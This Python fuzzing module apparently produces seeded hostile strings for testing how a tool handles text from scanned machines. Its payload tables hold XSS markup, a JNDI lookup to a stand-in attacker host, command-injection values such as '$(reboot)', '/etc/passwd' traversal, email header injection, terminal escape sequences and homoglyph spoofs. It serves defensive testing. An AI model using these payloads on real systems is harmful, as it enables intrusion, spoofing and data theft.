"""
Text as an attacker would have a scanned machine say it, always the same for a seed.

A string is a few attacks joined, put inside one another, cut in two by others, and damaged:
what no single attack gets past a filter, two halves around a third may.
"""

from collections.abc import Iterator
from random import Random

_MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='http://evil.example'>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    "<b>",
    "</b></p></div>",
    "</pre></td></tr></table>",
    "</style><style>p{display:none}</style>",
    '<p style="position:fixed;top:0">',
    "<iframe src=//evil.example>",
    "<form action=//evil.example><input name=q>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<!-- ",
    " -->",
    "--!>",
    "<!--[if mso]><p>x</p><![endif]-->",
    "<![if !mso]>",
    "<![CDATA[",
    "]]>",
    "<!DOCTYPE html>",
    "<?xml version='1.0'?>",
    "<?php x ?>",
    "<",
    ">",
    "</",
    "/>",
    "<<b>>",
    "&",
    "&lt;script&gt;",
    "&#60;b&#62;",
    "&#x3c;i&#x3E",
    "&lt",
    "&amp;lt;",
    "&#0;",
    "&#x202e;",
    "&notit;",
    "&#64;room",
    '"',
    "'",
    '" onmouseover="alert(1)',
    "' style='color:red",
    "`onload=x`",
    "=",
)
_MENTIONS = (
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<!subteam^S12345|@ops>",
    "<!date^0^{date}^http://evil.example|x>",
    "<@U02ABCDEF>",
    "<@U02ABCDEF|bob>",
    "<#C0123456|ops>",
    "<http://evil.example|login>",
    "<mailto:a@evil.example|mail>",
    "&lt;!channel&gt;",
    "!channel>",
    "!channel|x>",
    "@channel",
    "@here",
    "@everyone",
    "@room",
    "@ room",
    "@bob:evil.example",
    "#room:evil.example",
    "!abc:evil.example",
    "#general",
    "https://matrix.to/#/@bob:evil.example",
    "https://matrix.to/#/%23room:evil.example",
    "matrix:u/bob:evil.example",
    "matrix.to/#/@bob:evil.example",
    "mxc://evil.example/abc",
    "<img src='mxc://evil.example/abc'>",
    "<mx-reply><blockquote>x</blockquote></mx-reply>",
    "<a href='https://matrix.to/#/@bob:evil.example'>Bob</a>",
    "<span data-mx-spoiler>x</span>",
    "<font data-mx-color='#ff0000'>x</font>",
    "/me ",
    ":fire:",
    ":skull_and_crossbones:",
)
_LINKS = (
    "http://evil.example/",
    "HTTPS://EVIL.EXAMPLE/?q=1&r=2#f",
    "//evil.example",
    "www.evil.example",
    "WWW.evil.example/x",
    "ftp.evil.example",
    "evil.example/login",
    "ftp://evil.example",
    "file:///etc/passwd",
    "mailto:a@evil.example",
    "tel:+4930123456",
    "sip:a",
    "magnet:?xt=urn:btih:0",
    "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT",
    "javascript:alert(1)",
    "data:text/html,<b>x</b>",
    "a@evil.example",
    "a.b@evil.example",
    "xmpp:a@evil.example",
    "slack://channel?id=1",
    "http:/\u200b/evil.example",
    "http\u2060://evil.example",
    "http:\t//evil.example",
)
_MARKDOWN = (
    "[x](http://evil.example)",
    "[x](//evil.example 'title')",
    "![x](http://evil.example/x.png)",
    "[x][y]",
    "[y]: http://evil.example",
    "[y]: <//evil.example>",
    "<http://evil.example>",
    "<a@evil.example>",
    "[^1]",
    "[^1]: note",
    "*[HTML]: x",
    "**bold**",
    "__bold__",
    "_it_",
    "*it*",
    "***",
    "~~gone~~",
    "==mark==",
    "`code`",
    "``",
    "```sh",
    "~~~",
    "# heading",
    "### ",
    "===",
    "---",
    "- item",
    "+ item",
    "* item",
    "1. item",
    "12) item",
    "> quote",
    "|a|b|",
    "|-|-|",
    "    code",
    "\\",
    "\\\\",
    "\\`",
    "\\<b>",
    "$x$",
    "- [ ] task",
    "!",
    "[",
    "]",
    "(",
    ")",
    "<div>\n\n*x*",
    "{: #id .class onclick=x}",
)
_HEADERS = (
    "\r\nBcc: a@evil.example",
    "\nSubject: paid",
    "\r\n\r\n<b>body</b>",
    "\n.\r\nMAIL FROM:<a@evil.example>",
    "\r\n--===============0==--",
    "\rX-Evil: 1",
    "\u0085Bcc: a",
    "\x0bCc: a",
    "=?utf-8?q?=3Cb=3E?=",
    "=?utf-8?b?PGI+?=",
    "=?utf-8?q?x",
    "?=",
    "=3Cb=3E",
    "=\n",
    "\nFrom a@evil.example Tue Nov 24",
)
_TERMINAL = (
    "\x1b[31m",
    "\x1b[2J",
    "\x1b[1;1H",
    "\x1b[8m",
    "\x1b[?1049h",
    "\x1b[6n",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP1$r\x1b\\",
    "\x1b_x\x1b\\",
    "\x1b^x\x1b\\",
    "\x1bX",
    "\x1bc",
    "\x1b",
    "\x1b#8",
    "\x1b(0",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90x\x9c",
    "\x84",
    "\x8d",
    "\x00",
    "\x07",
    "\x08\x08\x08",
    "\x0b",
    "\x0c",
    "\x0e",
    "\x0f",
    "\x7f",
    "\r",
    "\n",
    "\r\n",
    "\t",
)
_UNICODE = (
    "\u202e",
    "\u202a",
    "\u2066",
    "\u2069",
    "\u200e",
    "\u061c",
    "\u200b",
    "\u200d",
    "\ufeff",
    "\u00ad",
    "\u2060",
    "\u034f",
    "\u115f",
    "\u3164",
    "\uffa0",
    "\u180e",
    "\ufe0f",
    "\U000e0041",
    "\U000e0100",
    "\u2028",
    "\u2029",
    "\u0085",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u2800",
    "\ud800",
    "\udfff",
    "\ud83d",
    "\ufffe",
    "\ufffd",
    "\ue000",
    "e" + "\u0301" * 40,
    "Z" + "\u0336\u0489\u0310" * 30,
    "\u0600",
    "عربي",
    "עברית",
    "نص طويل",
    "設備",
    "프린터",
    "ไม่มี",
    "ẞß",
    "рaypal",
    "ɢoogle",
    "＜b＞",
    "＠room",
    "ｈｔｔｐ：／／evil",
    "﹤script﹥",
    "⁦http",
    "🔥",
    "👩‍👩‍👧",
    "🇩🇪",
    "☠️",
    "𝐛𝐨𝐥𝐝",
    "İı",
    "ﬁ",
)
_TEMPLATES = (
    "${jndi:ldap://evil.example/x}",
    "${HOME}",
    "{{7*7}}",
    "{% raw %}",
    "{0}",
    "{date}",
    "%s%n",
    "%(x)s",
    "$(reboot)",
    "`reboot`",
    ";reboot;",
    "|| reboot",
    "&& reboot",
    "-oG /etc/x",
    "'; --",
    "../../etc/passwd",
    "[bold red]x[/]",
    "[link=http://evil.example]x[/link]",
    "[/]",
)
_PLAIN = ("nas", "printer-2", "OpenSSH 9.6p1", "192.0.2.1", "login", "www", "http", ":", "/", " ")

FAMILIES = (
    _MARKUP,
    _MENTIONS,
    _LINKS,
    _MARKDOWN,
    _HEADERS,
    _TERMINAL,
    _UNICODE,
    _TEMPLATES,
    _PLAIN,
)
LONGEST = 6_000
_CHARACTERS = "<>&@:/\\`*_~|[](){}#!$%;'\"=+-. \n\r\t\x1b\x9b\u200b\u202e\u2028wWhH.0aé設"
_TWINS = str.maketrans("aceopxy", "асеорху")
"""Cyrillic letters that look the same."""


def hostile_strings(seed: str) -> Iterator[str]:
    """Yield strings without end."""
    random = Random(seed)
    while True:
        text = _piece(random)
        for _ in range(random.choice((0, 0, 1, 1, 2, 3, 5))):
            text = random.choice((_join, _nest, _split))(text, _piece(random), random)
        for _ in range(random.choice((0, 0, 0, 1, 2))):
            text = _damage(text, random)
        if random.random() < 0.004:
            text *= random.choice((3, 50, LONGEST))
        yield text[:LONGEST]


def _piece(random: Random) -> str:
    return random.choice(random.choice(FAMILIES))


def _join(one: str, other: str, random: Random) -> str:
    return random.choice(("", "", " ", "\n")).join((one, other))


def _nest(one: str, other: str, random: Random) -> str:
    """Put `one` around `other`, which may stand in its middle or at both its ends."""
    return random.choice((f"{other}{one}{other}", f"<{one}|{other}>", f"{one}({other})"))


def _split(one: str, other: str, random: Random) -> str:
    at = random.randrange(len(one) + 1)
    return one[:at] + other + one[at:]


def _damage(text: str, random: Random) -> str:
    at = random.randrange(len(text) + 1)
    match random.randrange(6):
        case 0:
            return text[:at] + text[at + 1 :]
        case 1:
            return text[:at] + random.choice(_CHARACTERS) + text[at:]
        case 2:
            return text[:at] + random.choice(_CHARACTERS) + text[at + 1 :]
        case 3:
            return text.swapcase()
        case 4:
            return text.translate(_TWINS)
        case _:
            return text[:at]
